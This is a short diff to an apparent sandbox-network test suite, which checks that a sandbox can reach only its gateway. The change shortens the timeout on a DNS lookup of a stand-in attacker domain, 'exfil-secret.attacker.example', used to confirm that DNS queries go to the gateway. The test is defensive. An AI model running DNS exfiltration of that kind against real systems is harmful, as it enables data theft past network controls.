@@ -120,7 +120,7 @@ void describe("sandbox network: only the gateway is reachable", rootOnly, () => 
     assert.equal(await probe(a, "tcp", "8.8.8.8", 53), `OK dns-tcp ${netA.sandboxIp}`);
     assert.equal(await probe(a, "udp", mgr.gatewayIp, 53), `OK dns-udp ${netA.sandboxIp}`);
     const before = gw.hits.filter((h) => h.listener === "dns-udp").length;
-    await a.run(["getent", "hosts", "exfil-secret.attacker.example"], { timeoutMs: 10_000 });
+    await a.run(["getent", "hosts", "exfil-secret.attacker.example"], { timeoutMs: 1500 }); // the stand-in never answers real DNS
     assert.ok(gw.hits.filter((h) => h.listener === "dns-udp").length > before, "resolv.conf points at the gateway");
   });
 
